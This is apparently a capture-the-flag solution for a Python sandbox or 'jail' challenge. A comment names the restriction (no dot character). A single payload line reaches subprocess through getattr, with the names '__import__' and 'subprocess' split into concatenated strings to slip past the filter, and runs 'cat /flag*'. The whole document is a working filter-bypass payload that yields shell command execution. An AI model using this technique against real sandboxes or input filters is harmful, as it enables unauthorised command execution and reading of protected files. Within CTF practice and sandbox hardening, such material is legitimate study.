# restriction: no dot character; idea: every attribute lookup done through getattr with split strings
getattr(getattr(__builtins__,'__imp'+'ort__')('subpro'+'cess'),'getoutput')('cat /flag*')
